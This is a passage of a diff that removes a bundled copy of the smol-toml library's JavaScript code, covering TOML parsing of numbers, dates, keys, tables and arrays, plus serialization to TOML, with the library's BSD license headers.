-            hasUnderscores = true;
-        }
-        // Transition to fractional part.
-        else if (state === 1 && c === 0x2e /* . */)
-            state = 2;
-        // Transition to exponent part.
-        else if ((state === 1 || state === 3) && (c === 0x65 /* e */ || c === 0x45 /* E */))
-            state = 4;
-        // + and - are permitted in state 4 only (handled before entering the function for state 0)
-        else if (state === 4 && (c === 0x2b /* + */ || c === 0x2d /* - */)) {
-            state = 6;
-        }
-        // All special cases have been handled; only digits are allowed here
-        else if (!isDigit(c))
-            TomlError.x(`illegal character in numeric literal`, ctx);
-        // Clear state flags
-        else if (state > 9)
-            state -= 11;
-        else if (!(state & 1))
-            state++;
-    }
-    // Single-char number; we can fast-path these very easily.
-    if (!state) {
-        let val = (startChr - 0x30 /* 0 */) * (sign || 1);
-        return ctx.bi === true ? BigInt(val) : val;
-    }
-    // Even-numbered states absolutely require a digit next; not even end of value is permitted
-    if (!(state & 1))
-        TomlError.x('unfinished numeric value', ctx, startPtr);
-    let str = ctx.s.slice(startPtr, ctx.p);
-    if (hasUnderscores)
-        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
-    return state > 1
-        ? parseFloat(str)
-        : parseInteger(ctx, str, 10, startPtr);
-}
-function parseIntegerBaseN(ctx, startPtr, base, endChr) {
-    let c, underscore = 1;
-    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
-        if (c === 0x5f /* _ */) {
-            if (underscore & 1)
-                TomlError.x('illegal underscore', ctx);
-            underscore = 3;
-        }
-        // We only need to check if the number is a valid digit, nothing else is permitted
-        else if (!isDigit(c, base))
-            TomlError.x(`illegal character in numeric literal`, ctx);
-        // Clear underscore flag
-        else if (underscore & 1)
-            underscore--;
-    }
-    // Trailing underscore is not allowed
-    if (underscore & 1)
-        TomlError.x('unfinished numeric value', ctx);
-    let str = ctx.s.slice(startPtr + 2, ctx.p);
-    if (underscore)
-        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
-    return parseInteger(ctx, str, base, startPtr);
-}
-function parseInteger(ctx, str, base, startPtr) {
-    if (ctx.bi !== true)
-        int: {
-            let val = parseInt(str, base);
-            if (!Number.isSafeInteger(val)) {
-                if (ctx.bi)
-                    break int;
-                TomlError.x('integer value cannot be represented losslessly', ctx, startPtr);
-            }
-            return val;
-        }
-    return base === 10 ? BigInt(str) : BigInt((base === 2 ? '0b' : base === 8 ? '0o' : '0x') + str);
-}
-function parseDate(ctx, c, endChr) {
-    let startPtr = ctx.p++, unsafeSeparator;
-    if (!isDigit(c) ||
-        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
-        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
-        !isDigit(ctx.s.charCodeAt(ctx.p++))) {
-        return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
-    }
-    ctx.p += 5;
-    if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
-        TomlError.x('invalid date-time: date part is malformed', ctx, startPtr);
-    if (ctx.p >= ctx.s.length || (((c = ctx.s.charCodeAt(ctx.p)) !== 0x20 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 0x54 /* T */ && c !== 0x74 /* t */)) {
-        let t = ctx.s.slice(startPtr, ctx.p);
-        return readDate(ctx, t, 3, false, startPtr);
-    }
-    if (ctx.s.charCodeAt(ctx.p += 3) !== 0x3a /* : */)
-        TomlError.x('invalid date-time: time part is malformed', ctx, startPtr);
-    if (ctx.s.charCodeAt(ctx.p += 3) === 0x3a /* : */)
-        ctx.p += 3;
-    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
-        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
-            ;
-    if (c = ctx.s.charCodeAt(ctx.p)) {
-        if (c === 0x5a /* Z */ || c === 0x7a /* z */) {
-            let t = ctx.s.slice(startPtr, ++ctx.p);
-            return readDate(ctx, t, 1, unsafeSeparator, startPtr, '[+00:00]');
-        }
-        if (c === 0x2b /* + */ || c === 0x2d /* - */) {
-            // Temporal's ZonedDateTime is weird asf when it comes to dealing with traditional offsets...
-            // It's 1.2x faster to allocate a new string to pass to ZDT than use Instant.toZonedDateTimeISO
-            let t = ctx.s.slice(startPtr, ctx.p += 6);
-            return readDate(ctx, t, 1, unsafeSeparator, startPtr, !ctx.ld && ('[' + ctx.s.slice(ctx.p - 6, ctx.p) + ']'));
-        }
-    }
-    let t = ctx.s.slice(startPtr, ctx.p);
-    return readDate(ctx, t, 2, unsafeSeparator, startPtr);
-}
-function parseTime(ctx, c, endChr) {
-    let start = ctx.p;
-    if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
-        return parseNumber(ctx, --ctx.p, c, 0, endChr);
-    }
-    if (ctx.s.charCodeAt(ctx.p += 4) === 0x3a /* : */)
-        ctx.p += 3;
-    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
-        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
-            ;
-    let t = ctx.s.slice(start, ctx.p);
-    return readDate(ctx, t, 4, false, start);
-}
-function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
-    if (ctx.ld) {
-        let date = new TomlDate(str, type, unsafeDelim);
-        if (!date.isValid())
-            TomlError.x('invalid date', ctx, errPtr);
-        return date;
-    }
-    try {
-        if (temporalSuffix)
-            str += temporalSuffix;
-        switch (type) {
-            case 1: return Temporal.ZonedDateTime.from(str);
-            case 2: return Temporal.PlainDateTime.from(str);
-            case 3: return Temporal.PlainDate.from(str);
-            case 4: return Temporal.PlainTime.from(str);
-        }
-    }
-    catch (e) {
-        TomlError.x(e instanceof Error ? e.message : '' + e, ctx, errPtr);
-    }
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/util.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-
-/** @internal */
-function skipComment(ctx) {
-    for (; ctx.p < ctx.s.length; ctx.p++) {
-        let c = ctx.s.charCodeAt(ctx.p);
-        if (c === 0xa /* \n */)
-            break;
-        if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */) {
-            ctx.p++;
-            break;
-        }
-        if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
-            TomlError.x('control characters are not allowed in comments', ctx);
-        }
-    }
-}
-/** @internal */
-function skipVoid(ctx, banNewLines, banComments) {
-    let c;
-    while (ctx.p < ctx.s.length) {
-        while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 0x20 ||
-            c === 0x9 /* \t */ ||
-            (!banNewLines &&
-                (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)))))
-            ctx.p++;
-        if (banComments || c !== 0x23 /* # */)
-            break;
-        skipComment(ctx);
-    }
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/struct.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-
-
-
-
-/** @internal */
-function parseKey(ctx, end = 0x3d /* = */) {
-    // States:
-    // 0: before first char
-    // 1: parsing bare key
-    // 2: after key component
-    let startPtr;
-    let state = 0;
-    let parsed = [];
-    let sliceStart;
-    let c = ctx.s.charCodeAt(startPtr = ctx.p);
-    do {
-        // End of key
-        if (c === end) {
-            if (!state)
-                TomlError.x('unexpected end of key', ctx);
-            if (state === 1)
-                parsed.push(ctx.s.slice(sliceStart, ctx.p));
-            return ctx.p++, parsed;
-        }
-        // Dotted key separator
-        else if (c === 0x2e /* . */) {
-            if (!state)
-                TomlError.x('illegal empty bare key', ctx);
-            if (state === 1)
-                parsed.push(ctx.s.slice(sliceStart, ctx.p));
-            state = 0;
-        }
-        // Quoted key
-        else if (!state && (c === 0x22 /* " */ || c === 0x27 /* ' */)) {
-            if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
-                TomlError.x('illegal quoted key: multiline strings are not allowed', ctx);
-            parsed.push(parseString(ctx));
-            state = 2;
-            ctx.p--;
-        }
-        // Whitespace; no-op in state 0 and 2, end of bare key in state 1
-        else if (c === 0x20 || c === 0x9 /* \t */) {
-            if (state === 1) {
-                parsed.push(ctx.s.slice(sliceStart, ctx.p));
-                state = 2;
-            }
-        }
-        // If state is post-key, no character is allowed; otherwise ensure it's a bare-key component
-        else if (state === 2 || (c < 0x30 && c !== 0x2d /* - */) || (c > 0x39 && c < 0x41) || (c > 0x5a && c < 0x61 && c !== 0x5f /* _ */) || c > 0x7a) {
-            TomlError.x('illegal character in key', ctx);
-        }
-        // Illegal character
-        else if (!state) {
-            state = 1;
-            sliceStart = ctx.p;
-        }
-    } while (c = ctx.s.charCodeAt(++ctx.p));
-    TomlError.x('incomplete key-value: cannot find end of key', ctx, startPtr);
-}
-/** @internal */
-function parseInlineTable(ctx) {
-    let startPtr = ctx.p++;
-    let res = Object.create(null);
-    let seen = new Set();
-    let c;
-    while (ctx.p < ctx.s.length) {
-        skipVoid(ctx);
-        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x7d /* } */) {
-            ctx.p++;
-            return res;
-        }
-        let k;
-        let t = res;
-        let hasOwn = false;
-        let errPtr = ctx.p;
-        let key = parseKey(ctx);
-        for (let i = 0; i < key.length; i++) {
-            if (i)
-                t = hasOwn ? t[k] : (t[k] = Object.create(null));
-            k = key[i];
-            if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== 'object' || seen.has(t[k]))) {
-                TomlError.x('trying to redefine an already defined value', ctx, errPtr);
-            }
-            let unsafe = k === '__proto__';
-            if (ctx.uk && (unsafe || k === 'constructor')) {
-                t = ctx.uk !== 1 && TomlError.x('document contains an unsafe property', ctx, errPtr);
-                break;
-            }
-            if (!hasOwn && unsafe) {
-                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
-            }
-        }
-        if (hasOwn) {
-            TomlError.x('trying to redefine an already defined value', ctx, errPtr);
-        }
-        skipVoid(ctx, true, true);
-        let value = extractValue(ctx, 0x7d /* } */);
-        if (t && typeof (t[k] = value) === 'object')
-            seen.add(value);
-        skipVoid(ctx);
-        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x7d /* } */) {
-            return res;
-        }
-        if (c !== 0x2c /* , */)
-            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
-    }
-    TomlError.x('unfinished table', ctx, startPtr);
-}
-/** @internal */
-function parseArray(ctx) {
-    let startPtr = ctx.p++;
-    let res = [];
-    let c;
-    while (ctx.p < ctx.s.length) {
-        skipVoid(ctx);
-        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x5d /* ] */) {
-            ctx.p++;
-            return res;
-        }
-        res.push(extractValue(ctx, 0x5d /* ] */));
-        skipVoid(ctx);
-        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x5d /* ] */) {
-            return res;
-        }
-        if (c !== 0x2c /* , */)
-            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
-    }
-    TomlError.x('unfinished array', ctx, startPtr);
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/parse.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-
-
-
-
-function peekTable(ctx, key, table, meta, type) {
-    let t = table;
-    let m = meta;
-    let k;
-    let hasOwn = false;
-    let state;
-    for (let i = 0; i < key.length; i++) {
-        if (i) {
-            t = hasOwn ? t[k] : (t[k] = Object.create(null));
-            m = (state = m[k]).c;
-            if (type === 0 /* Type.DOTTED */ && (state.t === 1 /* Type.EXPLICIT */ || state.t === 2 /* Type.ARRAY */)) {
-                return null;
-            }
-            if (state.t === 2 /* Type.ARRAY */) {
-                let l = t.length - 1;
-                t = t[l];
-                m = m[l].c;
-            }
-        }
-        k = key[i];
-        if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 /* Type.DOTTED */ && m[k]?.d) {
-            return null;
-        }
-        if (!hasOwn) {
-            let unsafe = k === '__proto__';
-            if (ctx.uk && (unsafe || k === 'constructor'))
-                return false;
-            if (unsafe) {
-                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
-                Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
-            }
-            m[k] = {
-                t: i < key.length - 1 && type === 2 /* Type.ARRAY */
-                    ? 3 /* Type.ARRAY_DOTTED */ : type,
-                d: false,
-                i: 0,
-                c: Object.create(null),
-            };
-        }
-    }
-    state = m[k];
-    if (state.t !== type && !(type === 1 /* Type.EXPLICIT */ && state.t === 3 /* Type.ARRAY_DOTTED */)) {
-        // Bad key type!
-        return null;
-    }
-    if (type === 2 /* Type.ARRAY */) {
-        if (!state.d) {
-            state.d = true;
-            t[k] = [];
-        }
-        t[k].push(t = Object.create(null));
-        state.c[state.i++] = (state = { t: 1 /* Type.EXPLICIT */, d: false, i: 0, c: Object.create(null) });
-    }
-    if (state.d) {
-        // Redefining a table!
-        return null;
-    }
-    state.d = true;
-    if (type === 1 /* Type.EXPLICIT */) {
-        t = hasOwn ? t[k] : (t[k] = Object.create(null));
-    }
-    else if (type === 0 /* Type.DOTTED */ && hasOwn) {
-        return null;
-    }
-    return [k, t, state.c];
-}
-function validateTablePeek(ctx, peek, ptr) {
-    if (peek === null || ctx.uk === 2)
-        TomlError.x(peek === null
-            ? 'trying to redefine an already defined table or value'
-            : 'document contains an unsafe property', ctx, ptr);
-}
-function dist_parse_parse(toml, options = {}) {
-    let ctx = {
-        s: toml,
-        p: 0,
-        d: options.maxDepth ?? 1000,
-        bi: options.integersAsBigInt ?? false,
-        ld: options.useLegacyDate ?? true,
-        uk: options.unsafeKeyBehaviour === 'throw' ? 2 : options.unsafeKeyBehaviour === 'drop' ? 1 : 0,
-    };
-    let res = Object.create(null);
-    let meta = Object.create(null);
-    let tmp;
-    let skipping = false;
-    let tbl = res;
-    let m = meta;
-    // BOM is allowed, skip.
-    // JS is UTF-16, so we have to check for the UTF-16 BOM instead of the UTF-8 BOM sequence!
-    if (toml.charCodeAt(0) === 0xfeff)
-        ctx.p++;
-    skipVoid(ctx);
-    while (ctx.p < toml.length) {
-        if (toml.charCodeAt(ctx.p) === 0x5b /* [ */) {
-            let isTableArray = toml.charCodeAt(++ctx.p) === 0x5b; /* [ */
-            tmp = ctx.p += +isTableArray;
-            skipping = false;
-            let k = parseKey(ctx, 0x5d /* ] */);
-            if (isTableArray) {
-                if (toml.charCodeAt(ctx.p) !== 0x5d /* ] */) {
-                    TomlError.x('expected end of table array declaration', ctx);
-                }
-                ctx.p++;
-            }
-            let p = peekTable(ctx, k, res, meta, isTableArray ? 2 /* Type.ARRAY */ : 1 /* Type.EXPLICIT */);
-            if (!p) {
-                validateTablePeek(ctx, p, tmp);
-                skipping = true;
-            }
-            else {
-                m = p[2];
-                tbl = p[1];
-            }
-        }
-        else {
-            tmp = ctx.p;
-            let k = parseKey(ctx);
-            let p = peekTable(ctx, k, tbl, m, 0 /* Type.DOTTED */);
-            if (!p && !skipping)
-                validateTablePeek(ctx, p, tmp);
-            skipVoid(ctx, true, true);
-            let v = extractValue(ctx, void 0);
-            if (p && !skipping)
-                p[1][p[0]] = v;
-        }
-        skipVoid(ctx, true);
-        if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 0xa /* \n */ && (tmp !== 0xd /* \r */ || toml.charCodeAt(ctx.p + 1) !== 0xa /* \n */)) {
-            TomlError.x('each key-value declaration must be followed by an end-of-line', ctx);
-        }
-        skipVoid(ctx);
-    }
-    return res;
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/stringify.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
- * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
- * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
- * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
- * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
- * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
- * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
- * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
- */
-let BARE_KEY = /^[a-z0-9-_]+$/i;
-let HAS_WELLFORMED = !!(''.isWellFormed);
-function extendedTypeOf(obj) {
-    let type = typeof obj;
-    if (type === 'object') {
-        if (Array.isArray(obj))
-            return 'array';
-        if (typeof obj.getUTCDate === 'function' && obj instanceof Date)
-            return 'date';
-        if (globalThis.Temporal) {
-            if (obj.until) {
-                if (obj instanceof Temporal.ZonedDateTime)
-                    return 'temporal/tz+uc';
-                if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate)
-                    return 'temporal/uc';
-                if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant)
-                    return 'temporal';
-                if (obj instanceof Temporal.PlainYearMonth)
-                    return 'temporal/x';
-            }
-            else if ((obj.toPlainDate && obj instanceof Temporal.PlainMonthDay) ||
-                (obj.negated && obj instanceof Temporal.Duration)) {
-                return 'temporal/x';
-            }
-        }
-    }
-    return type;
-}
-function isArrayOfTables(obj) {
-    for (let i = 0; i < obj.length; i++) {
-        if (extendedTypeOf(obj[i]) !== 'object')
-            return false;
-    }
-    return obj.length != 0;
-}
-function formatWellFormedStringUnchecked(s) {
-    return JSON.stringify(s).replaceAll('\x7f', '\\u007f');
-}
-function formatString(s) {
-    return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
-}
-function formatKey(s) {
-    if (BARE_KEY.test(s))
-        return s;
-    if (HAS_WELLFORMED && !s.isWellFormed())
-        throw new RangeError('key contains illegal lone surrogates');
-    return formatWellFormedStringUnchecked(s);
-}
-function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
-    if (depth === 0) {
-        throw new Error('Could not stringify the object: maximum object depth exceeded');
-    }
-    switch (type) {
-        // @ts-expect-error -- intentional fallthrough case
-        case 'number':
-            if (isNaN(val))
-                return 'nan';
-            if (val === Infinity)
-                return 'inf';
-            if (val === -Infinity)
-                return '-inf';
-            if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val)))
-                return val.toFixed(1);
-        case 'bigint':
-        case 'boolean':
-        case 'temporal':
-            return val.toString();
-        case 'string':
-            return formatString(val);
-        case 'date':
-            if (isNaN(val.getTime()))
-                throw new TypeError('cannot serialize invalid date');
-            return val.toISOString();
-        case 'object':
-            return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
-        case 'array':
-            return stringifyArray(val, depth, numberAsFloat, strictTemporal);
-        // @ts-expect-error -- intentional fallthrough case
-        case 'temporal/tz+uc':
-            if (strictTemporal) {
-                let tz = val.timeZoneId;
-                let tzc = tz.charCodeAt(0);
-                if (
-                // Classic offset
-                tzc !== 0x2b /* + */ && tzc !== 0x2d /* - */ &&
-                    (
-                    // Fast pre-check pass; see below for the actually accepted values
-                    (tzc !== 0x55 /* U */ && tzc !== 0x47 /* G */ && tzc !== 0x5a /* Z */ && tzc !== 0x45 /* E */) ||
-                        (
-                        // UTC and its aliases; Temporal implementations don't all canonicalise unfortunately
-                        tz !== 'UTC' && tz !== 'UCT' && tz !== 'Universal' && tz !== 'Zulu' &&
-                            // GMT is a TZ but it's for all intents and purposes equivalent to UTC. Safe to downgrade.
-                            !tz.startsWith('GMT') && tz !== 'Greenwich' &&
-                            // Etc/* are all safe to downgrade to offset (either UTC, GMT, or offset)
-                            !tz.startsWith('Etc/')))) {
-                    throw new TypeError('Temporal objects with an IANA timezone are not allowed in Temporal strict mode');
-                }
-            }
-        case 'temporal/uc':
-            if (strictTemporal && val.calendarId !== 'iso8601')
-                throw new TypeError('Temporal objects with a non-default calendar are not allowed in Temporal strict mode');
-            return val.toString({
-                calendarName: 'never',
-                timeZoneName: 'never',
-            });
-        case 'temporal/x':
-            throw new TypeError('Unsupported ' + val[Symbol.toStringTag]);
-    }
-}
-function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
-    let keys = Object.keys(obj);
-    if (keys.length === 0)
-        return '{}';
-    let res = '{ ';
-    for (let i = 0; i < keys.length; i++) {
-        let k = keys[i];
-        if (i)
-            res += ', ';
-        res += formatKey(k) + ' = ' + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
-    }
-    return res + ' }';
-}
-function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
-    if (array.length === 0)
-        return '[]';
-    let res = '[ ';
-    for (let i = 0; i < array.length; i++) {
-        if (i)
-            res += ', ';
-        if (array[i] === null || array[i] === void 0) {
-            throw new TypeError('arrays cannot contain null or undefined values');
-        }
-        res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
-    }
-    return res + ' ]';
-}
-function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
-    if (depth === 0) {
-        throw new Error('Could not stringify the object: maximum object depth exceeded');
-    }
-    let res = '';
-    for (let i = 0; i < array.length; i++) {
-        res += `${res && '\n'}[[${key}]]\n`;
-        res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
-    }
-    return res;
-}
-function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
-    if (depth === 0) {
-        throw new Error('Could not stringify the object: maximum object depth exceeded');
-    }
-    let preamble = '';
-    let tables = '';
-    let keys = Object.keys(obj);
-    for (let i = 0; i < keys.length; i++) {
-        let k = keys[i];
-        if (obj[k] !== null && obj[k] !== void 0) {
-            let type = extendedTypeOf(obj[k]);
-            if (type === 'symbol' || type === 'function') {
-                throw new TypeError(`cannot serialize values of type '${type}'`);
-            }
-            let key = formatKey(k);
-            if (type === 'array' && isArrayOfTables(obj[k])) {
-                tables += (tables && '\n') + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
-            }
-            else if (type === 'object') {
-                let tblKey = prefix ? `${prefix}.${key}` : key;
-                tables += (tables && '\n') + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
-            }
-            else {
-                preamble += key;
-                preamble += ' = ';
-                preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
-                preamble += '\n';
-            }
-        }
-    }
-    if (tableKey && (preamble || !tables)) // Create table only if necessary
-        preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
-    return preamble && tables
-        ? `${preamble}\n${tables}`
-        : preamble || tables;
-}
-function stringify_stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTemporal = false } = {}) {
-    if (extendedTypeOf(obj) !== 'object') {
-        throw new TypeError('stringify can only be called with an object');
-    }
-    let str = stringifyTable(0, obj, '', maxDepth, numbersAsFloat, strictTemporal);
-    if (str[str.length - 1] !== '\n')
-        return str + '\n';
-    return str;
-}
-
-;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/index.js
-/*!
- * Copyright (c) Squirrel Chat et al., All rights reserved.
- * SPDX-License-Identifier: BSD-3-Clause
- *
- * Redistribution and use in source and binary forms, with or without
- * modification, are permitted provided that the following conditions are met:
- *
- * 1. Redistributions of source code must retain the above copyright notice, this
- *    list of conditions and the following disclaimer.
- * 2. Redistributions in binary form must reproduce the above copyright notice,
- *    this list of conditions and the following disclaimer in the
- *    documentation and/or other materials provided with the distribution.
- * 3. Neither the name of the copyright holder nor the names of its contributors
- *    may be used to endorse or promote products derived from this software without
- *    specific prior written permission.
- *
- * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
- * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
- * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
